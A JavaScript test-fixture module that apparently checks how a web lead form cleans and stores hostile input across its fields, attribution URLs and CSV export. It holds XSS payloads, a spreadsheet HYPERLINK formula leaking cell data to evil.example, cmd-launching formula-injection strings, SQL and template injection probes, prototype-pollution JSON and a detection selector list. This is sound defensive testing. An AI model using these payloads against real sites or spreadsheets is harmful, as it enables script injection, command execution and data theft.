// Texts that are more than text to somebody, what the product makes of each in each field, and whether they stand on a page as text.

/** Each does harm where it is taken for markup, an address, a template, a formula or a statement; none is longer than a name. */
export const TEXTS = {
  markup: `"><img src=x onerror="window.__pwned=1" data-pwned><svg onload=window.__pwned=1 data-pwned>`,
  ending: `</b></option></select></title></textarea></script><script data-pwned>window.__pwned=1</script>`,
  // Inside a script element it hides the element's own end.
  comment: `<!--<script data-pwned>window.__pwned=1//`,
  attribute: `x" onmouseover="window.__pwned=1" data-pwned="' onfocus='window.__pwned=1' autofocus data-pwned='`,
  beacon: `<base href=//evil.example><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example"><iframe src=//evil.example>`,
  address: `javascript:window.__pwned=1//https://evil.example/`,
  template: "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} '; DROP TABLE leads;-- %s%n",
  formula: `=HYPERLINK("https://evil.example/?"&A1,"Open")`,
  command: `+1+cmd|' /C calc'!A0`,
  minus: `-2+3+cmd|' /C calc'!A0`,
  sum: `@SUM(1+1)*cmd|' /C calc'!A0`,
  nul: "An\0na \0<b data-pwned>",
  controls: "An\u0001na\u001b[31m \u0085\u2028x\u0007y",
  direction: "\u202eexe.gpj\u202c \u2066a\u2069 \u200fאב\u200e",
  json: `{"name":{"$gt":""},"__proto__":{"admin":true}}`,
  // Browsers leave it out of a page: no text is there at all.
  nothing: "\0",
};

/** What the form's choice has to choose from. */
export const SIZES = ["Small", TEXTS.markup];

/** Stands for bytes that are no UTF-8 until the request is written. */
export const BROKEN = "INVALIDBYTES";
const BYTES = Buffer.from([0xff, 0xc0, 0x80, 0xed, 0xa0, 0x80]);
const ESCAPED = "%FF%C0%80%ED%A0%80";

/** All that is sent: the texts, what nobody types, and what no UTF-8 can be. */
export const VALUES = { ...TEXTS, long: "L".repeat(60_000), bytes: `An${BROKEN}na`, surrogate: "An\ud800na" };

/** How a lenient reader reads it. */
export const readable = (value) => value.replaceAll(BROKEN, new TextDecoder().decode(BYTES)).toWellFormed();

/** JSON as it goes over the wire. */
export function jsonOf(sent) {
  const parts = JSON.stringify(sent).split(BROKEN).map((part) => Buffer.from(part));
  return Buffer.concat(parts.flatMap((part, at) => (at ? [BYTES, part] : [part])));
}

/** Whether no reader of JSON can read it. */
export const isUnreadable = (sent) => /INVALIDBYTES|\\ud800/.test(JSON.stringify(sent));

/** The same as a form's body. */
export function pairsOf({ fields, attribution = {}, lang }) {
  const form = new URLSearchParams(Object.entries(fields));
  for (const [key, value] of Object.entries(attribution)) form.append(`attribution.${key}`, value);
  if (lang !== undefined) form.append("lang", lang);
  return `${form}`.replaceAll(BROKEN, ESCAPED);
}

/** One line, as names are kept: spaces and control characters fold into one space. */
export const line = (text) => text.split(/[\p{White_Space}\p{Cc}]+/u).filter(Boolean).join(" ");
/** Several lines, as messages are kept. */
export const paragraph = (text) => text.replace(/[^\P{Cc}\n]/gu, "").trim();
const cut = (text, most) => [...text].slice(0, most).join("");
/** A parameter of an address; what ad systems should have replaced is nothing. */
export const parameter = (text) => cut(line(text), 300);
export const tag = (text) => (/^\{.*\}$/.test(parameter(text)) ? "" : parameter(text));
/** An address, as it was given. */
export const address = (text) => cut(text.trim().replace(/\p{Cc}/gu, ""), 2048);
export const encoded = (value) => encodeURIComponent(value.toWellFormed());

const refused = (field, code) => ({ refused: [field, code] });
const kept = (row = {}) => ({ kept: row });

/** A field of the form: its text is cleaned by `clean`, and `check` says what is wrong with it. */
const typed = (key, clean, check) => ({
  name: key,
  put: (value) => ({ fields: { [key]: value } }),
  outcome: (value) => {
    const text = clean(value);
    const fault = check(text);
    return fault ? refused(key, fault) : kept({ [key]: text });
  },
});
const within = (most, required) => (text) => ([...text].length > most ? "too_long" : required && !text ? "required" : undefined);
/** Something beside the fields that a lead keeps text of. */
const ignored = (name, put) => ({ name, put, outcome: () => kept() });
/** One of the four addresses of the visitor's way. */
const way = (name, key, make, row) => ({ name, slug: "ads", put: (value) => ({ attribution: { [key]: make(value) } }), outcome: (value) => kept(row(value)) });
const landing = (name, make, row) => way(name, "landing_url", make, row);

/** Nothing that a browser would run. */
const harmless = (text) => !/^\s*(javascript|data|vbscript):/i.test(text);

/** Tags of campaigns; click ids of which some are paid for. */
export const TAGS = ["utm_source", "utm_medium", "utm_campaign", "utm_term", "utm_content"];
export const CLICKS = ["gclid", "yclid", "ymclid", "ysclid", "fbclid"];

/**
 * Every part of a submission: `put(value)` brings the value in, `outcome(value)` is what becomes of it: `refused` with the field and
 * the code of the fault, or `kept` with what the lead's columns hold (a function judges).
 */
export const MATRIX = [
  typed("name", line, within(200, true)),
  typed("phone", line, (text) => within(60, true)(text) ?? "not_a_phone"),
  typed("email", (value) => line(value).toLowerCase(), (text) => (text ? "not_an_email" : undefined)),
  typed("company", line, within(200)),
  typed("message", paragraph, within(4000)),
  { name: "size", put: (value) => ({ fields: { size: value } }), outcome: (value) => (SIZES.includes(value.trim()) ? kept() : refused("size", "unknown")) },
  typed("consent", line, () => "required"),
  ignored("checkbox", (value) => ({ fields: { news: value } })),
  ignored("hidden constant", (value) => ({ fields: { campaign: value } })),
  ignored("a field that the form does not have", (value) => ({ fields: { odd: value } })),
  ignored("the name of a field", (value) => ({ fields: { [value]: "x" } })),
  ignored("lang", (value) => ({ fields: {}, lang: value })),
  ...TAGS.map((name) => landing(name, (value) => `https://shop.example/?${name}=${encoded(value)}`, (value) => ({ [name]: tag(value), ...(name === "utm_term" && { keyword: tag(value) }) }))),
  ...CLICKS.map((name) => landing(name, (value) => `https://shop.example/?${name}=${encoded(value)}`, (value) => ({ click_id: tag(value), click_id_kind: tag(value) && name }))),
  landing("landing", (value) => `https://shop.example/${value}`, (value) => ({ landing_url: address(`https://shop.example/${value}`), site: "shop.example" })),
  landing("a landing page that is no address", (value) => value, (value) => ({ landing_url: (text) => harmless(text) && ["", address(value)].includes(text) })),
  // A quotation mark may stand in a host's name.
  landing("site", (value) => `https://${value}.example/`, () => ({ site: (text) => !/[<>\s]/.test(text) })),
  way("referrer", "referrer", (value) => `https://partner.example/${value}`, (value) => ({ referrer: address(`https://partner.example/${value}`) })),
  way("a referrer that is no address", "referrer", (value) => value, (value) => ({ referrer: (text) => harmless(text) && ["", address(value)].includes(text) })),
  way("keyword", "referrer", (value) => `https://www.google.com/search?q=${encoded(value)}`, (value) => ({ keyword: parameter(value), search_engine: "Google" })),
  way("first landing", "first_landing_url", (value) => `https://shop.example/${value}`, (value) => ({ first_landing_url: address(`https://shop.example/${value}`) })),
  way("first referrer", "first_referrer", (value) => `https://partner.example/${value}`, (value) => ({ first_referrer: address(`https://partner.example/${value}`) })),
];

/** What would be there, had some text become markup. */
const INJECTED =
  "[data-pwned], [onerror], [onload], [onmouseover], [onfocus], base, meta[http-equiv], iframe, object, embed, " +
  "[href^='javascript:' i], [src^='javascript:' i], [action^='javascript:' i], [href*='//evil.example'], [src*='//evil.example']";

/** Runs in a page: what became markup there, or in another page's `html`, and which texts are nobody's whole text or value. */
export function look({ html, injected, texts = [], title = "" }) {
  const page = html === undefined ? document : new DOMParser().parseFromString(html, "text/html");
  const have = new Set();
  for (const each of page.querySelectorAll("*")) {
    if (each.textContent.length < 5000) have.add(each.textContent);
    if (typeof each.value === "string") have.add(each.value);
  }
  return {
    pwned: window.__pwned ?? null,
    injected: [...page.querySelectorAll(injected)].map((each) => each.outerHTML.slice(0, 300)),
    missing: texts.filter((text) => !have.has(text)),
    titled: page.title.includes(title),
  };
}
/** What `look` is told, and what it finds where all is well. */
export const asked = (more) => ({ injected: INJECTED, ...more });
export const WELL = { pwned: null, injected: [], missing: [], titled: true };

/** The rows of a CSV file as RFC 4180 has them. */
export function csv(text) {
  const rows = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r?\n|$)/g)) {
    rows.at(-1).push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end !== ",") rows.push([]);
  }
  return rows.filter((row) => row.length > 1);
}
